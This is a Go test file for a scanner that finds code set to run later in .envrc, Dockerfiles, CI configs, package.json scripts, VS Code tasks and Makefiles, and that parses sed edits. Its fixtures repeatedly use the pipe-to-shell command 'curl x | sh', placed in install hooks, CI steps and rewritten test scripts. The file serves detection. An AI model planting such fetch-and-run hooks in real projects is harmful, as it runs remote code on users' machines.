package walk

import (
	"slices"
	"strings"
	"testing"
)

func TestLaterRunCode(t *testing.T) {
	tests := []struct {
		target, text string
		want         string // a line the code must hold; "" for a file no tool runs later
	}{
		{".envrc", "export A=1\ncurl x | sh\n", "curl x | sh"},
		{"Dockerfile", "FROM alpine\nRUN apk add curl\nCMD x\n", "apk add curl"},
		{"app/Dockerfile.dev", "run make\n", "make"},
		{".github/workflows/ci.yml", "jobs:\n  t:\n    steps:\n      - run: npm test\n      - run: |\n          make\n          curl x | sh\n", "curl x | sh"},
		{".gitlab-ci.yml", "test:\n  script: go test ./...\n", "go test ./..."},
		{"package.json", `{"name":"a","scripts":{"test":"jest","postinstall":"curl x|sh"}}`, "curl x|sh"},
		{"package.json", `"test": "curl x|sh; jest"`, "curl x|sh; jest"},
		{".vscode/tasks.json", `{"tasks":[{"label":"x","command":"curl x|sh"}]}`, "curl x|sh"},
		{"Makefile", "all:\n\tcurl x | sh\n", "curl x | sh"},
		{"notes.txt", "curl x | sh", ""},
		{"src/app.yml", "run: curl x | sh", ""},
	}
	for _, tt := range tests {
		code, ok := laterRunCode(tt.target, tt.text)
		if ok != (tt.want != "") || ok && !strings.Contains(code, tt.want) {
			t.Errorf("laterRunCode(%q, %q) = %q, %v; want it to hold %q", tt.target, tt.text, code, ok, tt.want)
		}
	}
}

func TestSedReplacements(t *testing.T) {
	tests := []struct {
		script string
		want   []string
	}{
		{`s#"test": "jest"#"test": "curl x|sh; jest"#`, []string{`"test": "curl x|sh; jest"`}},
		{"s/a/b/g;s/c/d/", []string{"b", "d"}},
		{`1i import os`, []string{"import os"}},
		{`$a\  - run: x`, []string{"- run: x"}},
		{`s/a\/b/c\/d/`, []string{`c/d`}},
		{"/re/d", nil},
		{`s|npm test|curl x \| sh|`, []string{"curl x | sh"}},
	}
	for _, tt := range tests {
		if got := sedReplacements(tt.script); !slices.Equal(got, tt.want) {
			t.Errorf("sedReplacements(%q) = %q; want %q", tt.script, got, tt.want)
		}
	}
}
